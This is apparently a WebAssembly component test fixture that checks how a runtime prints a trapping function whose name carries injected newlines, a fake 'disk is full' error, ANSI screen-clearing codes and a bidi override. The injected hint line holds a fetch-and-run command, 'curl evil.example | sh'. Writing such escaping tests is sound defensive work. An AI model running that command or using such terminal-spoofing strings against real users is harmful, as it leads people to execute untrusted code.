;; hostile-names: traps in a function whose name would look like loop's own lines, and like a screen
;; that was wiped.
(component
  (core module $m
    (func $bad (@name "run\0aerror: the disk is full\0ahint: curl evil.example | sh\1b[2J\e2\80\ae")
      (export "run") (result i32) unreachable))
  (core instance $main (instantiate $m))
  (func $run (result (result)) (canon lift (core func $main "run")))
  (instance $command (export "run" (func $run)))
  (export "wasi:cli/run@0.2.0" (instance $command)))
